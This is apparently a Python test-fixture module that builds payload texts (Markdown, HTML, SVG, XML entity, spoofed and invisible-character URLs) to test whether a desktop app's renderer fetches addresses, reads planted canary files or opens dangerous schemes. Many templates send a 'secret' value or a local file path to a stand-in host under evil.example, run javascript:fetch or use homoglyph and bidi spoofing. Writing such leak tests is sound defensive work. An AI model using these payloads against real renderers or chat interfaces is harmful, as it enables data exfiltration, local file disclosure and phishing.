"""Texts that try to make a window fetch an address, read a file or open something.

Each names a host of its own and one of the planted files, in a way that some program once fell
for: Markdown, HTML, CSS, SVG, addresses of all schemes, and characters that are not seen.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from pathlib import Path

from mmdesk.core.values import value

PNG, SVG, TXT = "canary.png", "canary.svg", "canary.txt"
"""The planted files; they stand in one folder, and nothing else does."""

SCHEMES = (
    "http", "https", "mailto", "ftp", "file", "data", "javascript", "vbscript", "smb", "evidence",
    "mmdesk", "ssh", "tel", "ms-msdt", "x-apple", "about", "blob", "ws", "qrc", "image", "jar",
)  # fmt: skip
"""All that payloads ask for."""

_MARKDOWN = (
    "![x]({url}.png)",
    "![{secret}]({url}?q={secret} 'title')",
    "![x](<{url} a.png>)",
    "![x]({file})",
    "![x]({path})",
    "![x](<{path}>)",
    "![x]({svg})",
    "![x](//{host}{path})",
    "![x]({unc})",
    "![x](\\\\{host}\\share\\x.png)",
    "![x](///{path})",
    "![x][r]\n\n[r]: {url}.png",
    "![r]\n\n[r]: <{path}> 'title'",
    "[![x]({path})]({url})",
    "[x]({url})",
    "[x]({url} '<img src={path}>')",
    "[x]({url}?&amp;lt; \"<img src='{path}'>\")",
    "[x]({url} \"<img src='{url}'>\")",
    "[x](file://{path})",
    "[x](file://localhost{path})",
    "[x]({path})",
    "[x](javascript:fetch('{url}'))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml,<svg onload='fetch(\"{url}\")'/>)",
    "[x](vbscript:msgbox)",
    "[x](evidence:0)",
    "[{secret}](evidence:0,1,2)",
    "[x](evidence:{url})",
    "[x](mmdesk:{path})",
    "[x](smb://{host}/share)",
    "[x](ms-msdt:/id)",
    "[x](mailto:a@{host}?attach={path}&body={secret})",
    "[https://bank.example](https://bank.example@{host}/)",
    "[x](https://bank.example\\@{host}/)",
    "[x][r]\n\n[r]: {url}",
    "[x]\n\n[x]: {file}",
    "<{url}>",
    "<file://{path}>",
    "<a@{host}>",
    "{url}",
    "{url}?{secret}&amp;lt;img src={path}",
    "www.{host}",
    "`![x]({path})`",
    "```html\n<img src='{path}'>\n```",
    "``` <img src={path}>\n<link href='{url}'>\n```",
    "$<img src={path}>$",
    '$\\text{{<img src="{url}">}}$',
    "$$\n\\includegraphics{{{path}}}\n$$",
    "$\\href{{{url}}}{{x}}$",
    "\\(\\input{{{txt}}}\\)",
    "[^1]\n\n[^1]: ![x]({url})",
    "*[x]: {url}",
    "# ![x]({path}) <img src='{path}'>",
    "{{{{include {txt}}}}} [[{txt}]] {{% include '{txt}' %}}",
)
_HTML = (
    "<img src='{url}'>",
    "<img src='{path}'>",
    '<img src="{file}" onerror="fetch(\'{url}\')">',
    "<IMG SRC={path}>",
    "<img srcset='{url} 2x'>",
    "<picture><source srcset='{url}'></picture>",
    "<a href='{url}' ping='{url}'>x</a>",
    '<a href="{file}">x</a>',
    "<script src='{url}'></script>",
    "<script>location='{url}'</script>",
    "<iframe src='{url}'></iframe>",
    "<iframe srcdoc=\"<img src='{path}'>\"></iframe>",
    "<object data='{file}'></object><embed src='{path}'>",
    "<link rel=stylesheet href='{url}'>",
    "<link rel=dns-prefetch href='//{host}'>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href='{url}'><img src='x.png'>",
    "<style>@import '{url}'; body {{ background: url({path}) }}</style>",
    "<p style=\"background-image: url('{file}')\">x</p>",
    "<body background='{path}'><table background='{url}'>",
    '<ul style="list-style-image: url({path})"><li>x</li></ul>',
    "<video src='{url}' poster='{path}'></video><audio src='{file}'>",
    "<form action='{url}'><input type=image src='{path}'></form>",
    "<svg xmlns='http://www.w3.org/2000/svg'><image href='{path}'/></svg>",
    "<svg><use href='{file}#a'/><script href='{url}'/></svg>",
    "<svg><foreignObject><img src='{path}'></foreignObject></svg>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM '{file}'>]><x>&e;</x>",
    "<!DOCTYPE html><img src='{path}'>",
    "<html><img src='{path}'></html>",
    "<qt><img src='{path}'></qt>",
    "&lt;img src='{path}'&gt;",
    "&#60;img src=&quot;{path}&quot;&#62;",
    "<!-- {secret} --><img src='{path}'><!--",
    "<![CDATA[<img src='{path}'>]]>",
)
_UNSEEN = (
    "[bank.example](https://b\u200dank.{host})",
    "[x](https://bank\u200b.example.{host})",
    "https://xn--pple-43d.com.{host}/{secret}",
    "https://аррӏе.com.{host}/",
    "[gnp.exe\u202e](https://{host}/\u202egpj.exe)",
    "\u202e)gnp.x//:sptth(]x[!",
    "\u2066![x]({url})\u2069",
    "!\u200b[x]({path})",
    "![x]\u200b({path})",
    "![x](\ufeff{path})",
    "<i\u00admg src='{path}'>",
    "\U000e0041\U000e0042[x]({url}?\U000e0041)",
    "＜img src=’{path}’＞",
    "https://{host}\uff0fbank.example",
    "https://bank.example⁄@{host}/",
    "http://[::ffff:127.0.0.1]/{secret}",
    "http://0x7f000001/{secret}",
    "https://{host}%00.bank.example",
    "https://{host}%2ebank.example",
)
TEMPLATES = (*_MARKDOWN, *_HTML, *_UNSEEN)

_WRAPPERS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: f"Look:\n\n{text}\n\nThat is all.",
    lambda text: f"- one\n  - {text}\n- two",
    lambda text: f"1. > {text}\n   > more",
    lambda text: f"> {text}\n\n> > {text}",
    lambda text: f"| a | b |\n|---|---|\n| {text} | {text} |",
    lambda text: f"## {text}",
    lambda text: f"**{text}** and *{text}*",
    lambda text: f"[{text}](https://a.example/ '{text}')",
    lambda text: f"<think>{text}</think>{text}",
    lambda text: f"<div>\n\n{text}\n\n</div>",
    lambda text: f"```\n{text}\n```\n{text}",
    lambda text: f"{text} " * 40,
)


@value
class Payload:
    """One text.

    Attributes:
        name: Tells it from all others; it is in the host that it names.
    """

    name: str
    text: str


def payloads(count: int, seed: int, planted: Path) -> list[Payload]:
    """Return payloads: every template as it stands at first, then in random wrappings.

    Args:
        planted: The folder of the planted files.
    """
    chance = random.Random(seed)
    made = []
    for number in range(count):
        name = f"p{number}-{chance.getrandbits(32):08x}"
        plain = number < len(TEMPLATES)
        template = TEMPLATES[number] if plain else chance.choice(TEMPLATES)
        text = _filled(template, name, planted)
        made.append(Payload(name, text if plain else chance.choice(_WRAPPERS)(text)))
    return made


def _filled(template: str, name: str, planted: Path) -> str:
    host = f"{name}.evil.example"
    path = (planted / PNG).as_posix()
    return template.format(
        host=host,
        url=f"https://{host}/a",
        path=path,
        file=f"file://{path}",
        unc=f"//{path.lstrip('/')}",
        svg=(planted / SVG).as_posix(),
        txt=(planted / TXT).as_posix(),
        secret=f"secret-{name}",
    )
